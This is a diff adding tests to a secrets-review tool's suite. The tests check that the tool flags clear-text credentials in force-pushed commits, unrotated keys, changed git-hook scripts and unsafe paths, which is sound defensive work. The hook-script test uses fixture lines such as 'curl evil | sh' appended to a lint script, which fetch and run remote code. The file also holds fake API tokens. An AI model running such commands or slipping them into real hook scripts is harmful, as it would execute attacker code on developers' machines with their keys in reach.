@@ -323,6 +323,18 @@ describe("buildReview over whole repositories", () => {
     expect(buildReview(at("base", base), at("head", renamed)).problems.map((p) => p.kind)).toEqual([]);
   });
 
+  it("flags a data key wrapped for someone in a commit of an earlier push (--previous-head) that the rewritten branch no longer holds: pushed, the head still uses that data key", async () => {
+    const { alice, base } = await project();
+    const { bob, withBob } = await bobJoinsProduction(alice, base);
+    const e1 = "e1".repeat(20);
+    // the first push: `members add bob`; then the branch is reset and force-pushed with the base's file
+    const report = buildReview(at("base", base), at("head", base), new Map(), { earlierPushVersions: [{ commit: e1, path: PROD, text: withBob[PROD] as string }] });
+    expect(report.problems.map((p) => [p.kind, p.environment, p.file, p.commit])).toEqual([["unrotated-removal", "production", PROD, e1]]);
+    expect(report.problems[0]?.message).toContain(`its version at commit ${e1.slice(0, 10)} of an earlier push of this change (given with --previous-head; the range no longer holds it: the branch was rewritten, but the commit was pushed) also wrapped for ${bob.recipient} (`);
+    expect(report.problems[0]?.message).toContain("stellar-secrets rotate-key --env production");
+    expect(report.clean).toBe(false);
+  });
+
   it("flags a data key wrapped for someone in one commit of the change and taken out in a later one (a revert): the end state is the base's byte for byte", async () => {
     const { alice, base } = await project();
     const { bob, prev, withBob } = await bobJoinsProduction(alice, base);
@@ -503,6 +515,31 @@ describe("buildReview over whole repositories", () => {
     expect(atHead.problems.filter((p) => p.kind === "plaintext")).toHaveLength(1);
     expect(atHead.problems.find((p) => p.kind === "plaintext")?.commit).toBeUndefined();
     expect(buildReview(at("base", { ...base, [PROD]: leaked }), at("head", base), new Map(), { rangeVersions: [{ commit: c1, path: PROD, text: leaked }] }).problems.filter((p) => p.kind === "plaintext")).toEqual([]);
+  });
+
+  it("flags a value or a credential in clear text in a commit of an earlier push (--previous-head) that the range no longer holds: pushed is pushed, a force-push does not take it back", async () => {
+    const { base } = await project();
+    const c1 = "e1".repeat(20);
+    const token = "sk_live_FAKEFAKEFAKEFAKE0000";
+    const leaked = `zendesk_api_token: zd_live_5f8a9b7c6d5e4f3a2b1c\n${base[PROD] as string}`;
+    const earlierPushVersions = [
+      { commit: c1, path: PROD, text: leaked },
+      { commit: c1, path: STRIPE, text: `${base[STRIPE] as string}# was ${token}\n` },
+    ];
+    const report = buildReview(at("base", base), at("head", base), new Map(), { earlierPushVersions });
+    expect(report.problems.map((p) => [p.kind, p.file, p.commit])).toEqual([
+      ["plaintext", PROD, c1],
+      ["plaintext", STRIPE, c1],
+    ]);
+    expect(report.problems[0]?.message).toBe(
+      `${PROD} at commit ${c1.slice(0, 10)} of an earlier push of this change (given with --previous-head; the range no longer holds it: the branch was rewritten) holds the value of zendesk_api_token in clear text: it was pushed, and a force-push does not take it back (the remote keeps the commit, and clones and forks that fetched it have it); treat it as leaked and change it at the provider`,
+    );
+    expect(report.problems[1]?.message).toContain("Stripe live secret key");
+    expect(JSON.stringify(report)).not.toContain("zd_live_5f8a9b7c6d5e4f3a2b1c");
+    expect(JSON.stringify(report)).not.toContain(token);
+    // the same clear value in a commit of the range too: reported once, as the range's
+    const both = buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: [{ commit: "c1".repeat(20), path: PROD, text: leaked }], earlierPushVersions: earlierPushVersions.slice(0, 1) });
+    expect(both.problems.map((p) => [p.kind, p.commit])).toEqual([["plaintext", "c1".repeat(20)]]);
   });
 
   it("reads the environment files of a secrets folder that only the range's commits had (moved to vault/ by stellar.yaml, then back): plaintext, unrotated-removal, exposedDuring", async () => {
@@ -1739,6 +1776,49 @@ describe("a change to a git hook manager's files (.pre-commit-config.yaml, .husk
     expect(report.problems[1]?.message).toContain("`stellar-secrets pre-commit` among them, may be gone");
     expect(report.problems[3]?.message).toContain("web/.husky/pre-push is new: husky");
     expect(report.clean).toBe(false);
+  });
+});
+
+describe("a change to a script a git hook manager's file runs (hookScripts)", () => {
+  it("is weakened-rule at the script, naming the hook file and its manager: the hook file is unchanged but a member's next commit runs the new text", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const hookScripts = [
+      { path: "tools/fmt.sh", before: "echo fmt\n", after: "curl evil | sh\n", via: ".husky/pre-commit" },
+      { path: "package.json", script: "lint", before: "eslint .", after: "eslint . ; curl evil | sh", via: "lefthook.yml" },
+      { path: "tools/new.sh", before: undefined, after: "x\n", via: ".lefthook/pre-commit/a.sh" },
+      { path: "tools/same.sh", before: "x\n", after: "x\n", via: ".husky/pre-commit" },
+      { path: "package.json", field: "lint-staged", before: '{"*":"a"}', after: '{"*":"b"}', via: ".husky/pre-commit" },
+    ];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { hookScripts });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
+      ["weakened-rule", "tools/fmt.sh"],
+      ["weakened-rule", "package.json"],
+      ["weakened-rule", "tools/new.sh"],
+      ["weakened-rule", "package.json"],
+    ]);
+    expect(report.problems[3]?.message).toContain('the "lint-staged" configuration in package.json (the commands lint-staged runs) changes, and .husky/pre-commit (husky, a hook script) runs it');
+    const byFile = new Map(report.problems.map((p) => [p.file, p.message]));
+    expect(byFile.get("tools/fmt.sh")).toBe(
+      "tools/fmt.sh changes, and .husky/pre-commit (husky, a hook script) runs it at a git hook (a commit, a push) in each member's clone where the hook manager is installed, from the working tree, without asking again when it changes: the member's next commit runs the new text, as the member, with their age key in reach, though the hook's own file is unchanged; review its diff, and make that change on its own, reviewed separately",
+    );
+    expect(report.problems[1]?.message).toContain('the script "lint" of package.json changes, and lefthook.yml (lefthook) runs it');
+    expect(byFile.get("tools/new.sh")).toContain("tools/new.sh is new, and .lefthook/pre-commit/a.sh (lefthook, a hook script) runs it");
+    expect(report.clean).toBe(false);
+  });
+});
+
+describe("a path git refuses to check out (headPaths)", () => {
+  it("is weakened-rule at the path when the change adds it (secrets/.git, .GIT/x, git~1): no checkout of the merge succeeds; one the base had is not this change's", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { headPaths: ["stellar.yaml", "secrets/.git", "docs/.GIT/x", "old/git~1/y"], basePaths: ["stellar.yaml", "old/git~1/y"] });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
+      ["weakened-rule", "docs/.GIT/x"],
+      ["weakened-rule", "secrets/.git"],
+    ]);
+    expect(report.problems[1]?.message).toContain("secrets/.git has a component git refuses to check out");
+    expect(report.problems[1]?.message).toContain("git rm -r --cached secrets/.git");
   });
 });
 
